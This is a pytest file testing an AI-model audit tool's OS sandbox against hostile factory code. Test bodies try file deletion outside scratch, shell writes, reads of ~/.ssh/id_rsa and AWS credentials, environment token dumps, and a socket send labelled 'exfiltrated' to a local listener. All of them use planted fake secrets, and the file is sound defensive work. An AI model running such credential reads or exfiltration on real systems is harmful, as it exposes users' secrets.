"""The OS sandbox: a target whose factory misbehaves before returning a faithful AlexNet is contained.

Each hostile target tries one escape and then builds the reference network; the audit must still
write its report, the escape must not have happened, and the run notes say what was attempted.
Without the sandbox (today's worker: Python-level limits only) every one of these escapes succeeds.
"""
from __future__ import annotations

import json
import socket
import threading
from pathlib import Path

import pytest
import yaml

from alexnet_audit.cli.main import EXIT_USAGE, main
from alexnet_audit.isolate import jail
from alexnet_audit.spec.load import default_spec_path

needs_sandbox = pytest.mark.skipif(not jail.available(), reason=f"no OS sandbox here ({jail.mechanism()})")

_TEMPLATE = '''
import os, subprocess, sys

def build():
{body}
    from alexnet_ref.model import AlexNet
    return AlexNet()
'''


def _audit(tmp_path: Path, body: str, capsys: pytest.CaptureFixture[str]) -> tuple[dict, str, str]:
    """Audit a target whose factory runs `body` first; the JSON report, the target's log, stderr."""
    data = yaml.safe_load(default_spec_path().read_text(encoding="utf-8"))
    data["items"] = [it for it in data["items"] if it["id"].startswith("lrn.")]  # a cheap audit
    spec = tmp_path / "lrn_spec.yaml"
    spec.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    (tmp_path / "evil.py").write_text(_TEMPLATE.format(body=indented), encoding="utf-8")
    out = tmp_path / "out"
    rc = main(["audit", f"{tmp_path / 'evil.py'}:build", "--spec", str(spec), "--out", str(out)])
    captured = capsys.readouterr()
    assert rc == 0, captured
    report = json.loads((out / "evil.build.json").read_text(encoding="utf-8"))
    log = out / "evil.build.log"
    return report, log.read_text(encoding="utf-8") if log.exists() else "", captured.err


@pytest.mark.slow
@needs_sandbox
def test_writes_and_deletes_outside_the_scratch_directory_are_refused(tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("precious", encoding="utf-8")
    report, log, _ = _audit(tmp_path, f"""
for act in (lambda: open({str(outside / 'new.txt')!r}, 'w').write('x'),
            lambda: os.remove({str(outside / 'keep.txt')!r})):
    try:
        act()
    except OSError as exc:
        print('refused:', exc)
""", capsys)
    assert (outside / "keep.txt").read_text(encoding="utf-8") == "precious"
    assert not (outside / "new.txt").exists()
    assert "Read-only file system" in log
    notes = "\n".join(report["run_notes"])
    assert f"write {outside / 'new.txt'}" in notes and f"delete {outside / 'keep.txt'}" in notes
    assert "the sandbox contained it" in notes
    assert {f["status"] for f in report["findings"]} <= {"pass", "variant", "skip"}  # the verdicts still stand


@pytest.mark.slow
@needs_sandbox
def test_a_shell_command_cannot_write_outside_either(tmp_path, capsys):
    target = tmp_path / "from_shell.txt"
    report, _, _ = _audit(tmp_path, f"subprocess.run(['sh', '-c', 'echo x > {target}'])", capsys)
    assert not target.exists()
    assert any(f"run sh -c echo x > {target}" in n for n in report["run_notes"])


@pytest.mark.slow
@needs_sandbox
def test_secrets_in_the_home_directory_are_out_of_reach(tmp_path, capsys, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PLANTED-SSH-KEY", encoding="utf-8")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("PLANTED-AWS-KEY", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    report, log, _ = _audit(tmp_path, f"""
for path in (os.path.expanduser('~/.ssh/id_rsa'), {str(home / '.aws' / 'credentials')!r}):
    try:
        print(open(path).read())
    except OSError as exc:
        print('refused:', type(exc).__name__)
""", capsys)
    assert "PLANTED" not in log and "PLANTED" not in json.dumps(report)
    assert {ln for ln in log.splitlines() if ln.startswith("refused")} == {"refused: FileNotFoundError"}
    assert any(f"read {home / '.aws' / 'credentials'}" in n for n in report["run_notes"])


@pytest.mark.slow
def test_tokens_in_the_environment_are_withheld_and_named(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "PLANTED-TOKEN")
    monkeypatch.setenv("MY_SERVICE_PASSWORD", "PLANTED-PASSWORD")
    report, log, err = _audit(tmp_path, "print(sorted(os.environ.items()))", capsys)
    assert "PLANTED" not in log and "PLANTED" not in json.dumps(report)
    assert "GITHUB_TOKEN" in err and "MY_SERVICE_PASSWORD" in err and "PLANTED" not in err


@pytest.mark.slow
@needs_sandbox
def test_a_child_interpreter_cannot_reach_a_listener_on_the_host(tmp_path, capsys):
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(100))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    child = (f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=5); "
             "s.sendall(b'exfiltrated')")
    try:
        report, log, _ = _audit(tmp_path, f"print(subprocess.run([sys.executable, '-c', {child!r}]).returncode)",
                                capsys)
    finally:
        stop.set()
        thread.join(5)
        server.close()
    assert received == []
    assert "ConnectionRefusedError" in log
    assert any(n.startswith("The target tried to run ") for n in report["run_notes"])


@pytest.mark.slow
@needs_sandbox
def test_the_report_names_the_sandbox_that_ran(tmp_path, capsys):
    report, _, _ = _audit(tmp_path, "pass", capsys)
    assert report["environment"]["sandbox"] == jail.UNSHARE
    assert "run_notes" not in report  # a well-behaved target: nothing attempted, nothing to say


def test_sandbox_required_refuses_to_run_without_one(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(jail, "_probe", lambda: "none: user namespaces are not available (test)")
    rc = main(["audit", "reference", "--out", str(tmp_path), "--sandbox", "required"])
    err = capsys.readouterr().err
    assert rc == EXIT_USAGE
    assert err.strip() == ("alexnet-audit: error: a sandbox is required (ALEXNET_AUDIT_SANDBOX=required) but there "
                           "is none here: user namespaces are not available (test)")
    assert not any(tmp_path.iterdir())


def test_the_environment_keeps_what_python_needs_and_withholds_the_rest():
    env = {"PATH": "/bin", "LANG": "C.UTF-8", "PYTHONHASHSEED": "0", "OMP_NUM_THREADS": "2", "CUDA_VISIBLE_DEVICES":
           "0", "ALEXNET_AUDIT_MEMORY_LIMIT": "1", "GITHUB_TOKEN": "t", "AWS_REGION": "r", "EDITOR": "vi",
           "DEPLOY_KEY": "k"}
    kept, withheld = jail.filter_env(env)
    assert sorted(kept) == ["ALEXNET_AUDIT_MEMORY_LIMIT", "CUDA_VISIBLE_DEVICES", "LANG", "OMP_NUM_THREADS", "PATH",
                            "PYTHONHASHSEED"]
    assert withheld == ["AWS_REGION", "DEPLOY_KEY", "EDITOR", "GITHUB_TOKEN"]
    kept, withheld = jail.filter_env(env, capture=True)  # the user's own command: only credentials go
    assert withheld == ["AWS_REGION", "DEPLOY_KEY", "GITHUB_TOKEN"] and "EDITOR" in kept
    kept, withheld = jail.filter_env(env, pass_env=["GITHUB_TOKEN"])
    assert kept["GITHUB_TOKEN"] == "t" and "GITHUB_TOKEN" not in withheld
